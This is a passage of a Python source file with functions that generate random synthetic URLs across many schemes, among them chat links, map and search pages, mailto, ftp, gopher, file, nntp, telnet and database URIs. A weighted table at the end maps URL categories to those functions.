                f"https://discord.gg/{_w(r, 7, 10, _MIXED)}",
                f"https://cdn.discordapp.com/attachments/{sf()}/{sf()}"
                f"/{_w(r, 4, 16, _MIXED + '_-')}.png"
                f"?ex={_hex(r, 8)}&is={_hex(r, 8)}&hm={_hex(r, 64)}&",
                f"https://media.discordapp.net/attachments/{sf()}/{sf()}/image.png"
                f"?width={r.randint(100, 2000)}&height={r.randint(100, 2000)}",
            ]
        )
    if x <= 8:  # Teams
        thread = f"19%3a{_w(r, 32, 32, _MIXED)}%40thread.{r.choice(['tacv2', 'skype', 'v2'])}"
        ctx = f"%7b%22Tid%22%3a%22{_uuid(r)}%22%2c%22Oid%22%3a%22{_uuid(r)}%22%7d"
        return r.choice(
            [
                f"https://teams.microsoft.com/l/message/{thread}/{r.randint(10**12, 10**13)}"
                f"?tenantId={_uuid(r)}&groupId={_uuid(r)}"
                f"&parentMessageId={r.randint(10**12, 10**13)}&teamName={_w(r, 3, 8)}"
                f"%20{_w(r, 3, 8)}&channelName=General&createdTime={r.randint(10**12, 10**13)}",
                f"https://teams.microsoft.com/l/meetup-join/19%3ameeting_{_w(r, 48, 48, _MIXED)}"
                f"%40thread.v2/0?context={ctx}",
                f"https://teams.microsoft.com/l/channel/{thread}/{_w(r, 3, 10)}?groupId={_uuid(r)}"
                f"&tenantId={_uuid(r)}",
            ]
        )
    if x <= 9:  # Zoom
        return (
            f"https://{r.choice(['', 'us02web.', 'us06web.', _w(r, 3, 8, _LOW) + '.'])}zoom.us/j/"
            f"{r.randint(10**9, 10**11)}"
            + r.choice(["", f"?pwd={_w(r, 32, 32, _MIXED)}.1", f"?pwd={_w(r, 22, 32, _MIXED)}"])
        )
    return r.choice(  # Telegram, WhatsApp, Signal
        [
            f"https://t.me/{_w(r, 5, 20, _LOW + '_')}",
            f"https://t.me/{_w(r, 5, 16, _LOW)}/{r.randint(1, 99999)}",
            f"https://t.me/+{_w(r, 16, 16, _MIXED + '_-')}",
            f"https://wa.me/{r.randint(10**9, 10**12)}"
            f"?text={'%20'.join(_w(r, 2, 8, _LOW) for _ in range(r.randint(1, 6)))}",
            f"https://signal.group/#{_w(r, 40, 60, _MIXED + '_-')}",
        ]
    )


# -- https maps/search -------------------------------------------------------------------------


def _terms(r: random.Random, sep: str) -> str:
    words = [r.choice([_w(r, 2, 9, _LOW), r.choice(_WORDS)]) for _ in range(r.randint(1, 6))]
    if r.random() < 0.15:
        words.insert(0, "%22" + words.pop(0))
        words[-1] += "%22"
    if r.random() < 0.15:
        words.append(f"site%3A{_host(r, 0)}")
    if r.random() < 0.1:
        words.append(_pct(r.choice(_UTF8)))
    return sep.join(words)


def _latlng(r: random.Random) -> tuple[str, str]:
    return f"{r.uniform(-80, 80):.7f}", f"{r.uniform(-179, 179):.7f}"


def map_search(r: random.Random, i: int) -> str:
    x = r.randint(0, 11)
    lat, lng = _latlng(r)
    if x <= 3:  # Google Maps
        place = _terms(r, "+")
        data = "".join(
            r.choice(
                [
                    "!3m1",
                    "!4b1",
                    "!4m6",
                    "!3m5",
                    "!8m2",
                    f"!3d{lat}",
                    f"!4d{lng}",
                    f"!1s0x{_hex(r, 16)}:0x{_hex(r, 16)}",
                    f"!16s%2Fg%2F{_w(r, 11, 11, _ALNUM)}",
                ]
            )
            for _ in range(r.randint(3, 10))
        )
        return r.choice(
            [
                f"https://www.google.com/maps/place/{place}/@{lat},{lng},{r.randint(3, 21)}z"
                f"/data={data}?entry=ttu",
                f"https://www.google.com/maps/dir/{_terms(r, '+')}/{_terms(r, '+')}/@{lat},{lng}"
                f",{r.randint(3, 18)}z",
                f"https://www.google.com/maps/search/{_terms(r, '+')}/@{lat},{lng}"
                f",{r.randint(3, 18)}z?hl={r.choice(['en', 'de', 'fr'])}",
                f"https://maps.google.com/maps?q={lat},{lng}&ll={lat},{lng}&z={r.randint(3, 20)}",
                f"https://www.google.com/maps/@?api=1&map_action=pano&viewpoint={lat}%2C{lng}"
                f"&heading={r.randint(-180, 360)}",
            ]
        )
    if x <= 5:  # search engines' result pages
        q = _terms(r, r.choice(["+", "+", "%20"]))
        return r.choice(
            [
                f"https://www.google.com/search?q={q}&oq={q.split('+')[0]}&gs"
                f"_lcrp={_w(r, 40, 120, _MIXED + '_-')}&sourceid=chrome&ie=UTF-8",
                f"https://www.google.{r.choice(['com', 'de', 'co.uk', 'fr'])}/search?q={q}&sca"
                f"_esv={_hex(r, 16)}&source=hp&ei={_w(r, 22, 22, _MIXED)}"
                f"&start={10 * r.randint(0, 9)}",
                f"https://www.bing.com/search?q={q}&form=QBLH&sp=-1&pq={q.lower()}"
                f"&sc={r.randint(1, 20)}-{r.randint(1, 40)}&qs=n&sk=&cvid={_hex(r, 32).upper()}",
                f"https://duckduckgo.com/?q={q}&t=h_&ia={r.choice(['web', 'images', 'news'])}",
                f"https://search.brave.com/search?q={q}&source=web",
                f"https://yandex.ru/search/?text={q}&lr={r.randint(1, 300)}",
            ]
        )
    if x <= 7:  # OpenStreetMap and Apple Maps
        return r.choice(
            [
                f"https://www.openstreetmap.org/#map={r.randint(3, 19)}/{lat[:8]}/{lng[:8]}",
                f"https://www.openstreetmap.org/{r.choice(['node', 'way', 'relation'])}"
                f"/{r.randint(1, 10**10)}#map={r.randint(3, 19)}/{lat[:8]}/{lng[:8]}&layers=C",
                "https://www.openstreetmap.org/directions?engine=fossgis_osrm"
                f"_{r.choice(['car', 'bike', 'foot'])}&route={lat[:8]}%2C{lng[:8]}%3B{lng[:8]}"
                f"%2C{lat[:8]}",
                f"https://maps.apple.com/?ll={lat},{lng}&q={_terms(r, '%20')}&z={r.randint(3, 20)}"
                f"&t={r.choice(['m', 's', 'h'])}",
                f"https://maps.apple.com/?daddr={_terms(r, '+')}"
                f"&dirflg={r.choice(['d', 'w', 'r'])}",
            ]
        )
    return r.choice(  # shops, videos and encyclopaedias
        [
            f"https://www.amazon.{r.choice(['com', 'de', 'co.uk', 'co.jp'])}/s?k={_terms(r, '+')}"
            f"&crid={_w(r, 13, 13, string.ascii_uppercase + string.digits)}"
            f"&sprefix={_w(r, 3, 8, _LOW)}%2Caps%2C{r.randint(100, 400)}&ref=nb_sb_noss"
            f"_{r.randint(1, 2)}",
            f"https://www.youtube.com/results?search_query={_terms(r, '+')}"
            f"&sp={_w(r, 8, 12, _MIXED)}%253D%253D",
            f"https://www.youtube.com/watch?v={_w(r, 11, 11, _MIXED + '-_')}"
            f"&t={r.randint(1, 3600)}s&list=PL{_w(r, 32, 32, _MIXED + '-_')}"
            f"&index={r.randint(1, 200)}",
            f"https://www.ebay.com/sch/i.html?_nkw={_terms(r, '+')}&_sacat={r.randint(0, 99999)}&"
            f"_from=R40&_trksid=p{r.randint(10**6, 10**7)}.m570.l1313",
            f"https://en.wikipedia.org/w/index.php?search={_terms(r, '+')}&title=Special%3ASearch"
            "&ns0=1",
            f"https://www.etsy.com/search?q={_terms(r, '%20')}&ref=search_bar"
            f"&page={r.randint(1, 30)}",
        ]
    )


# -- http html hrefs ---------------------------------------------------------------------------


def href(r: random.Random, i: int) -> str:
    """A page's URL with an href appended as naive crawlers join them (concatenation)."""
    scheme = r.choice(["https", "https", "http"])
    host = _host(r, i)
    base = "/" + "".join(f"{r.choice(_WORDS)}/" for _ in range(r.randint(0, 4)))
    x = r.randint(0, 11)
    if x <= 2:
        ref = "../" * r.randint(1, 3) + "/".join(r.choice(_WORDS) for _ in range(r.randint(1, 3)))
        ref += r.choice(["", "/", ".html", "/index.html", ".md"])
    elif x <= 4:
        ref = "./" + r.choice([f"{_slug(r, 1, 3)}.html", f"img/{_w(r)}.png", "", f"{_w(r)}/"])
    elif x <= 5:
        ref = r.choice(["/", "//", ""]) + "/".join(
            r.choice([_w(r, 2, 8, _LOW), ""]) for _ in range(r.randint(2, 5))
        )
    elif x <= 6:
        ref = r.choice(
            ["?", "#", "?#", f"#{_w(r, 1, 12, _LOW + '-')}", f"?page={r.randint(1, 9)}#"]
        )
    elif x <= 8:
        ref = f"{_slug(r, 1, 4)}{r.choice(['.html', '.htm', '.php', '.aspx', ''])}" + r.choice(
            [
                "",
                "#top",
                f"#{_slug(r, 1, 3)}",
                f"?lang={r.choice(['en', 'de', 'ja'])}",
                f";jsessionid={_hex(r, 32).upper()}",
            ]
        )
    elif x <= 9:
        name = r.choice(_WORDS).capitalize()
        ref = r.choice(
            [
                f"files/{name}%20{_w(r, 3, 8)}%20({r.randint(1, 9)}).pdf",
                f"{name}_(disambiguation)",
                f"docs/{_w(r)}%20{_w(r)}.docx",
                f"wiki/{name}_%28{_w(r, 3, 8, _LOW)}%29",
                f"{_pct(r.choice(_UTF8))}.html",
            ]
        )
    elif x <= 10:  # Markdown reference links and anchors of static site generators
        ref = r.choice(
            [
                f"{_slug(r, 1, 3)}.md#{_slug(r, 1, 4)}",
                f"../{_w(r)}/README.md",
                f"#{_w(r, 2, 6, _LOW)}-{_w(r, 2, 6, _LOW)}-{r.randint(1, 9)}",
                f"{_w(r)}/#L{r.randint(1, 999)}-L{r.randint(1000, 2000)}",
            ]
        )
    else:
        ref = f"{_w(r)}.html?{_query(r, 1, 3)}" + r.choice(["", "&", "&amp;x=1"]).replace(
            "&amp;", "&"
        )
    return f"{scheme}://{host}{base}{ref}"


# -- http hand-written -------------------------------------------------------------------------


def _case(r: random.Random, text: str) -> str:
    k = r.randint(0, 3)
    if k == 0:
        return text.upper()
    if k == 1:
        return text.capitalize()
    if k == 2:
        return "".join(c.upper() if r.random() < 0.5 else c for c in text)
    return text


def hand_written(r: random.Random, i: int) -> str:
    scheme = _case(r, r.choice(["http", "https"]))
    x = r.random()
    if x < 0.55:
        host = ".".join(_case(r, p) for p in _host(r, i).split("."))
    elif x < 0.7:
        host = ".".join(f"{int(p):03d}" if r.random() < 0.6 else p for p in _v4(r).split("."))
    elif x < 0.85:
        host = r.choice(
            [
                "localhost",
                "LOCALHOST",
                f"{_w(r, 3, 10, _LOW)}.local",
                f"{_w(r, 3, 10, _LOW)}.internal",
                f"{_w(r, 3, 8, _LOW)}.lan",
                "127.0.0.1",
            ]
        )
    else:
        host = f"{_w(r, 2, 8, _LOW)}%2D{_w(r, 2, 8, _LOW)}.{r.choice(_TLDS)}"
    if r.random() < 0.25:
        host += "."
    y = r.random()
    if y < 0.3:
        port = ":443" if scheme.lower() == "https" else ":80"
    elif y < 0.5:
        port = f":{r.choice([8080, 8000, 8443, 3000, 8888, 5173, 80, 443])}"
    else:
        port = ""
    path = r.choice(
        [
            "",
            "/",
            f"/%7E{_w(r, 3, 8, _LOW)}/",
            f"/~{_w(r, 3, 8, _LOW)}/{_w(r)}.html",
            f"/{_case(r, r.choice(_WORDS))}/{_w(r)}",
            f"/%41{_w(r, 2, 6)}%2D{_w(r, 2, 6)}%5F{_w(r, 2, 6)}%2E{r.choice(['html', 'txt'])}",
            f"/{r.choice(_WORDS)}%2F{r.choice(_WORDS)}",
            f"/{_w(r, 3, 8)}/?{_w(r, 2, 5, _LOW)}={_qval(r)}",
            f"/{_w(r, 3, 8)}#{_w(r, 2, 8)}",
        ]
    )
    return f"{scheme}://{host}{port}{path}"


# -- the other schemes -------------------------------------------------------------------------


def mailto(r: random.Random, i: int) -> str:
    def addr() -> str:
        local = r.choice(
            [
                _w(r, 2, 10, _LOW),
                f"{_w(r, 2, 8, _LOW)}.{_w(r, 2, 10, _LOW)}",
                f"{_w(r, 2, 8, _LOW)}%2B{_w(r, 2, 6, _LOW)}",
                r.choice(["info", "support", "sales", "press", "hello", "jobs"]),
            ]
        )
        return f"{local}@{_host(r, i)}"

    head = r.choice(["mailto:"] * 9 + ["MAILTO:", "Mailto:"])
    x = r.randint(0, 9)
    to = "" if x == 0 else ",".join(addr() for _ in range(1 if x < 7 else r.randint(2, 5)))
    fields: list[str] = []
    if r.random() < 0.7 or not to:
        fields.append(f"subject={_terms(r, r.choice(['%20', '+', '%20']))}")
    for name in ("cc", "bcc"):
        if r.random() < 0.3:
            fields.append(f"{name}={','.join(addr() for _ in range(r.randint(1, 3)))}")
    if r.random() < 0.5:
        lines = [_terms(r, "%20") for _ in range(r.randint(1, 4))]
        body = r.choice(["%0D%0A", "%0A", "%0D%0A%0D%0A"]).join(lines)
        if r.random() < 0.4:
            link = f"https://{_host(r, i)}/{_slug(r, 1, 3)}?id={r.randint(1, 9999)}"
            body += f"%0D%0A{_pct(link)}"
        fields.append(f"body={body}")
    r.shuffle(fields)
    return head + to + ("?" + "&".join(fields) if fields else "")


def ftp_mirror(r: random.Random, i: int) -> str:
    host = r.choice(
        [
            f"ftp.{_host(r, i)}",
            f"ftp{r.randint(1, 9)}.{_host(r, i)}",
            f"mirror.{_host(r, i)}",
            _v4(r),
            "ftp.gnu.org",
            "ftp.funet.fi",
            "ftp.debian.org",
            "ftp.kernel.org",
        ]
    )
    login = r.choice(
        [
            "",
            "",
            "",
            "",
            "anonymous@",
            f"anonymous:{_w(r, 3, 8, _LOW)}%40{_host(r, i)}@",
            f"{_w(r, 3, 8, _LOW)}:{_w(r, 6, 12, _MIXED)}@",
            "ftp:ftp@",
        ]
    )
    port = r.choice([""] * 8 + [":21", f":{r.randint(2100, 2199)}"])
    tree = r.choice(
        [
            "pub",
            "pub",
            "gnu",
            "mirrors",
            "debian",
            "ubuntu",
            "pub/linux",
            "%2Fpub",
            "%2Fhome/" + _w(r, 3, 8, _LOW),
        ]
    )
    dirs = "/".join(_w(r, 2, 12, _ALNUM + "-_") for _ in range(r.randint(0, 4)))
    path = f"/{tree}/{dirs}" if dirs else f"/{tree}"
    ver = f"{r.randint(0, 9)}.{r.randint(0, 30)}"
    x = r.randint(0, 5)
    if x <= 1:  # a directory: listed with ;type=d, or written with its slash
        tail = r.choice(["/;type=d", ";type=d", "/", "", ";type=D"])
    elif x <= 3:
        tail = (
            f"/{_w(r, 2, 12, _LOW)}-{ver}.{r.choice(['tar.gz', 'tar.xz', 'zip', 'tar.bz2', 'tgz'])}"
        )
        tail += r.choice(["", "", ";type=i", ";type=I"])
    else:
        tail = "/" + r.choice(
            ["README", "INDEX", "ls-lR", "MD5SUMS", "SHA256SUMS", "CHANGES", "welcome.msg"]
        )
        tail += r.choice(["", ";type=a", ".txt", ".gz;type=i"])
    return f"{r.choice(['ftp'] * 9 + ['FTP'])}://{login}{host}{port}{path}{tail}"


def gopher_hole(r: random.Random, i: int) -> str:
    host = r.choice(
        [
            _host(r, i),
            f"gopher.{_host(r, i)}",
            "gopher.floodgap.com",
            "sdf.org",
            "bitreich.org",
            "gopher.quux.org",
            _v4(r),
        ]
    )
    port = r.choice(["", "", "", ":70", ":7070", f":{r.randint(7000, 7999)}"])
    x = r.randint(0, 9)
    if x <= 2:  # menus
        sel = r.choice(
            [
                "",
                f"/users/{_w(r, 3, 10, _LOW)}",
                f"/{_w(r, 3, 10, _LOW)}/",
                "/phlog",
                f"/~{_w(r, 3, 8, _LOW)}/",
                f"/{'/'.join(_w(r, 2, 8) for _ in range(r.randint(1, 4)))}",
            ]
        )
        return f"gopher://{host}{port}/1{sel}"
    if x <= 4:  # searches: the terms after %09
        engine = r.choice(
            ["/v2/vs", "/search", f"/{_w(r, 3, 8, _LOW)}/search.dcgi", "/cgi-bin/search", ""]
        )
        terms = r.choice(["%20", "+", "%20"]).join(
            _w(r, 2, 9, _LOW) for _ in range(r.randint(1, 4))
        )
        return f"gopher://{host}{port}/7{engine}%09{terms}"
    if x <= 6:  # Gopher+ strings
        item = r.choice(["1", "0", "7", "9", "I"])
        sel = f"/{_w(r, 2, 10)}/{_w(r, 2, 10)}"
        plus = r.choice(
            [
                "%09%09+",
                "%09%09!",
                "%09%09$",
                "%09%09+text/plain",
                "%09%09+application/pdf%20En_US",
                f"%09{_w(r, 2, 8, _LOW)}%09+",
                f"%09%09!+{r.choice(['INFO', 'ADMIN', 'VIEWS'])}",
            ]
        )
        return f"gopher://{host}{port}/{item}{sel}{plus}"
    if x <= 7:  # links out and binaries
        return r.choice(
            [
                f"gopher://{host}{port}/hURL:https://{_host(r, i)}/{_slug(r, 1, 3)}",
                f"gopher://{host}{port}/I/{_w(r)}/{_w(r)}.{r.choice(['gif', 'png', 'jpg'])}",
                f"gopher://{host}{port}/g/pics/{_w(r)}.gif",
                f"gopher://{host}{port}/9/{_w(r)}/{_w(r)}-{r.randint(1, 9)}.{r.randint(0, 9)}.tar"
                ".gz",
                f"gopher://{host}{port}/h/{_w(r)}.html",
            ]
        )
    y, m, d = r.randint(1993, 2026), r.randint(1, 12), r.randint(1, 28)  # text: phlogs, docs
    return r.choice(
        [
            f"gopher://{host}{port}/0/phlog/{y}-{m:02d}-{d:02d}-{_slug(r, 1, 4)}.txt",
            f"gopher://{host}{port}/0/{_w(r)}/{_w(r)}.txt",
            f"gopher://{host}{port}/0{_w(r, 3, 10)}",
            f"gopher://{host}{port}/0/~{_w(r, 3, 8, _LOW)}/{_slug(r, 1, 2)}%20{_w(r, 2, 6)}.txt",
        ]
    )


def browser_file(r: random.Random, i: int) -> str:
    def name() -> str:
        stem = r.choice(
            [
                _w(r, 2, 12, _MIXED),
                f"{_w(r, 2, 8)}%20{_w(r, 2, 8)}",
                f"{_w(r, 2, 8)}%20({r.randint(1, 9)})",
                f"{_w(r)}_{r.randint(2000, 2026)}",
                _pct(r.choice(_UTF8)),
                f"{_w(r)}'s%20{_w(r)}",
                f"{_w(r)}%20%26%20{_w(r)}",
            ]
        )
        ext = r.choice(["pdf", "html", "txt", "png", "svg", "docx", "md", "xml", "json", "htm"])
        return f"{stem}.{ext}"

    def dirs(n: int) -> str:
        return "".join(
            "/"
            + r.choice([_w(r, 2, 10, _MIXED), r.choice(_WORDS).capitalize(), f"{_w(r)}%20{_w(r)}"])
            for _ in range(r.randint(0, n))
        )

    user = r.choice(
        [_w(r, 3, 10, _LOW), _w(r, 3, 10, _LOW).capitalize(), f"{_w(r, 3, 8)}.{_w(r, 3, 8)}"]
    )
    x = r.randint(0, 9)
    if x <= 3:  # Windows
        drive = r.choice("CCCCDEZ")
        top = r.choice(
            [
                f"/Users/{user}"
                f"/{r.choice(['Documents', 'Downloads', 'Desktop', 'OneDrive%20-%20' + _w(r)])}",
                "/Program%20Files",
                "/Program%20Files%20(x86)",
                "/Windows/Temp",
                "/Projects",
            ]
        )
        return f"file:///{drive}:{top}{dirs(3)}/{name()}" + r.choice(
            ["", "", f"#{_w(r)}", f"#page={r.randint(1, 99)}"]
        )
    if x <= 5:  # macOS
        top = r.choice(
            [
                f"/Users/{user}",
                f"/Users/{user}/Library/Application%20Support",
                "/Volumes/Macintosh%20HD",
                f"/Volumes/{_w(r, 3, 8).upper()}",
                "/Applications",
                f"/private/var/folders/{_w(r, 2, 2)}/{_w(r, 30, 30)}/T",
            ]
        )
        return f"file://{top}{dirs(3)}/{name()}"
    if x <= 7:  # Linux
        top = r.choice(
            [
                f"/home/{user}",
                f"/home/{user}/Downloads",
                "/tmp",
                "/usr/share/doc",
                f"/run/media/{user}/{_w(r).upper()}",
            ]
        )
        return f"file://{top}{dirs(3)}/{name()}" + r.choice(
            ["", f"#{_w(r, 2, 10, _LOW)}", f"?{_w(r, 2, 5, _LOW)}={r.randint(1, 9)}"]
        )
    if x <= 8:  # UNC as Windows' browsers write it
        return (
            f"file://{_w(r, 3, 12, _MIXED)}/{_w(r, 3, 10)}{r.choice(['', '$'])}{dirs(3)}/{name()}"
        )
    top = r.choice(["/etc", "/var/log", "/Users/" + user, "/C:/Users/" + user])
    return f"file://localhost{top}{dirs(2)}/{name()}"


_GROUPS = [
    "comp.lang.c",
    "comp.lang.python",
    "comp.os.linux.misc",
    "alt.folklore.computers",
    "comp.sys.mac.programmer",
    "rec.arts.sf.written",
    "sci.crypt",
    "news.announce.newusers",
    "alt.sysadmin.recovery",
    "comp.risks",
    "misc.test",
    "de.comp.os.unix.linux.misc",
    "comp.os.minix",
    "comp.std.c",
    "alt.binaries.pictures.misc",
    "uk.rec.cycling",
]
_MONTHS = ["Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"]


def news_archive(r: random.Random, i: int) -> str:
    group = (
        r.choice(_GROUPS)
        if r.random() < 0.6
        else f"{r.choice(['comp', 'alt', 'rec', 'sci', 'soc'])}."
        f"{_w(r, 3, 10, _LOW)}.{_w(r, 3, 10, _LOW)}"
    )
    host = _host(r, i)
    y = r.randint(1981, 2009)
    ids = [
        f"{y}{r.choice(_MONTHS)}{r.randint(1, 28)}.{r.randint(100000, 235959)}"
        f".{r.randint(1, 99999)}@{host}",
        f"Pine.LNX.4.{r.randint(10, 64)}.{r.randint(10**12, 10**13 - 1)}.{r.randint(1000, 99999)}"
        f"-{r.randint(100000, 999999)}@{host}",
        f"{r.randint(10**9, 10**10)}.AA{r.randint(10000, 99999)}@{host}",
        f"{_hex(r, 12)}.fsf@{host}",
        f"slrn{_w(r, 3, 8, _LOW)}.{_w(r, 2, 4, _LOW)}.{_w(r, 3, 8, _LOW)}@{host}",
        f"{_w(r, 6, 12, _MIXED)}${_w(r, 3, 6, _LOW)}${r.randint(1, 9)}@{host}",
        f"{_uuid(r).upper()}@{host}",
        f"%3C{y}{r.randint(1, 12):02d}{r.randint(1, 28):02d}{r.randint(10**5, 10**6)}"
        f".{_w(r, 4, 8, string.ascii_uppercase)}@{host}%3E",
    ]
    x = r.randint(0, 9)
    if x <= 4:
        return f"news:{r.choice(ids)}"
    if x <= 6:
        return f"news:{group}"
    if x <= 8:
        return (
            f"nntp://{r.choice(['news.', 'nntp.', 'usenet.'])}{_host(r, i)}"
            f"{r.choice(['', '', ':119'])}/{group}/{r.randint(1, 999999)}"
        )
    return f"news://{r.choice(['news.', 'nntp.'])}{_host(r, i)}/{r.choice([group, r.choice(ids)])}"


def telnet_login(r: random.Random, i: int) -> str:
    host = r.choice(
        [
            _host(r, i),
            f"bbs.{_host(r, i)}",
            f"mud.{_host(r, i)}",
            f"library.{_host(r, i)}",
            _v4(r),
            _v6(r),
        ]
    )
    login = r.choice(
        [
            "",
            "",
            "guest@",
            "new@",
            "bbs@",
            f"{_w(r, 3, 10, _LOW)}@",
            f"{_w(r, 3, 10, _LOW)}:{_w(r, 4, 12, _MIXED)}@",
            "anonymous@",
            f"{_w(r, 3, 8, _LOW)}:@",
        ]
    )
    port = r.choice(["", "", ":23", ":2323", ":4000", ":6023", f":{r.randint(1024, 9999)}"])
    return f"{r.choice(['telnet'] * 9 + ['Telnet'])}://{login}{host}{port}{r.choice(['', '', '/'])}"


def wais_prospero(r: random.Random, i: int) -> str:
    host = r.choice(
        [
            _host(r, i),
            f"wais.{_host(r, i)}",
            "quake.think.com",
            "archie.au",
            "prospero.isi.edu",
            _v4(r),
        ]
    )
    db = r.choice(
        [
            "directory-of-servers",
            "cia-world-factbook",
            "usenet-cookbook",
            "bible",
            "internet-rfcs",
            "ERIC-archive",
            f"{_w(r, 3, 12, _LOW)}-{_w(r, 3, 12, _LOW)}",
            _w(r, 3, 16, _ALNUM + "_"),
        ]
    )
    x = r.randint(0, 9)
    if x <= 5:
        port = r.choice(["", "", ":210", f":{r.randint(8000, 8999)}"])
        return f"wais://{host}{port}/" + r.choice(
            [
                db,
                f"{db}?{'+'.join(_w(r, 2, 10, _LOW) for _ in range(r.randint(1, 4)))}",
                f"{db}?{_w(r)}%20{_w(r)}",
                f"{db}/{r.choice(['TEXT', 'WSRC', 'HTML', 'PS', 'GIF'])}/{r.randint(0, 9999)}",
                f"{db}/TEXT/{_w(r, 6, 40, _ALNUM)}",
            ]
        )
    port = r.choice(["", "", ":1525", ":191"])
    path = "/".join(_w(r, 2, 12, _ALNUM + "-_.") for _ in range(r.randint(1, 5)))
    fields = "".join(
        f";{r.choice(['type', 'version', 'OBJECT', 'FORMAT', _w(r, 2, 8, _LOW)])}"
        f"={r.choice([_w(r, 1, 10), str(r.randint(0, 9))])}"
        for _ in range(r.randint(0, 2))
    )
    return f"prospero://{host}{port}/{r.choice(['', 'pub/', 'papers/', 'users/'])}{path}{fields}"


def other_scheme(r: random.Random, i: int) -> str:
    host = _host(r, i)
    owner, repo = _w(r, 3, 12, _LOW), _w(r, 3, 16, _LOW + "-")
    return r.choice(
        [
            f"git+https://github.com/{owner}/{repo}.git@v{r.randint(0, 9)}"
            f".{r.randint(0, 20)}#egg={repo}",
            f"git+https://{host}/{owner}/{repo}.git@{_hex(r, 40)}#subdirectory={_w(r)}&egg={repo}",
            f"ssh://git@{host}:{r.choice([22, 2222, 7999])}/{owner}/{repo}.git",
            f"git://{host}/{owner}/{repo}.git",
            f"s3://{_w(r, 3, 20, _LOW)}-{i % 1000}/{_key(r)}",
            f"gs://{_w(r, 3, 20, _LOW)}/{_key(r)}",
            f"postgresql://{_w(r, 3, 8, _LOW)}:{_w(r, 8, 20, _MIXED)}@{host}:5432"
            f"/{_w(r, 3, 10, _LOW)}?sslmode=require&application_name={_w(r)}",
            f"redis://:{_w(r, 8, 24, _MIXED)}@{host}:6379/{r.randint(0, 15)}",
            f"mysql://{_w(r, 3, 8, _LOW)}@{_v4(r)}:3306/{_w(r, 3, 10, _LOW)}?charset=utf8mb4",
            f"magnet:?xt=urn:btih:{_hex(r, 40)}&dn={_terms(r, '+')}&tr=udp%3A%2F%2Ftracker.{host}"
            f"%3A{r.randint(1000, 9999)}%2Fannounce",
            f"tag:{host},{r.randint(2000, 2026)}-{r.randint(1, 12):02d}"
            f"-{r.randint(1, 28):02d}:{_w(r, 3, 12, _LOW)}-{r.randint(1, 9999)}",
            f"matrix:r/{_w(r, 3, 12, _LOW)}:{host}?action=join",
            f"matrix:u/{_w(r, 3, 12, _LOW)}:{host}",
            f"slack://channel?team=T{_w(r, 8, 10, string.ascii_uppercase + string.digits)}"
            f"&id=C{_w(r, 8, 10, string.ascii_uppercase + string.digits)}",
            f"sip:{_w(r, 3, 10, _LOW)}@{host};transport={r.choice(['tcp', 'udp', 'tls'])}",
            f"tel:+{r.randint(1, 99)}-{r.randint(100, 999)}-{r.randint(100, 999)}"
            f"-{r.randint(1000, 9999)}",
            f"geo:{r.uniform(-80, 80):.5f},{r.uniform(-179, 179):.5f};u={r.randint(1, 100)}",
            f"ircs://irc.{host}:6697/%23{_w(r, 3, 12, _LOW)}",
            f"irc://irc.{host}/{_w(r, 3, 12, _LOW)}",
            f"wss://{host}/{r.choice(['ws', 'socket', 'cable', 'realtime'])}"
            f"?token={_w(r, 20, 40, _MIXED)}",
            f"ws://{_v4(r)}:{r.randint(1024, 65535)}/",
            f"webcal://{host}/calendar/{_w(r)}.ics",
            f"xmpp:{_w(r, 3, 10, _LOW)}@conference.{host}?join",
            f"data:text/plain;charset=utf-8,{_terms(r, '%20')}",
            f"data:image/png;base64,{_w(r, 20, 80, _MIXED + '+/')}=",
        ]
    )


SEVENTH: dict[str, Gen] = {
    "https access logs": log_line,
    "https sitemaps/feeds": feed_item,
    "https package indexes": package_index,
    "https signed storage": presigned,
    "https chat/meetings": chat_link,
    "https maps/search": map_search,
    "http html hrefs": href,
    "http hand-written": hand_written,
    "mailto cc/bcc/body": mailto,
    "ftp mirrors": ftp_mirror,
    "gopher holes": gopher_hole,
    "file from browsers": browser_file,
    "news/nntp archives": news_archive,
    "telnet logins": telnet_login,
    "wais/prospero lists": wais_prospero,
    "other schemes": other_scheme,
}
#: Blocks per round where not one (http(s) 15 of every 23: see the module's docstring).
WEIGHTS: dict[str, int] = {
    "https access logs": 3,
    "https sitemaps/feeds": 2,
    "https package indexes": 2,
    "https signed storage": 2,
    "https maps/search": 2,
    "http html hrefs": 2,
}
